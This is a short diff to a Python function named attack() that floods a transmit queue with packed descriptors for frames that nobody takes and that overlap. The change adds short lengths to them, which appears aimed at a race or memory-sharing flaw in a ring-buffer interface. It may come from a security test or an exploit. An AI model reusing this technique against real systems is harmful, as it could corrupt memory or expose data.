@@ -185,9 +185,9 @@ def attack(user):
     for wrong in WRONG:
         user.tx.put([struct.pack("<QII", *wrong)])
         user.wake()
-    # Frames that nobody takes, which overlap and are another by the time that they are sent.
+    # Frames that nobody takes, which overlap and are another by the time that they are sent. Short ones are copied.
     last = CHUNKS - 8
-    frames = [struct.pack("<QII", user.chunk(last) + 100 * number, 1000, 0) for number in range(8)]
+    frames = [struct.pack("<QII", user.chunk(last) + 100 * number, length, 0) for number in range(8) for length in (1000, 200, 1)]
     for _ in range(16):
         user.tx.put(frames)
         user.wake()
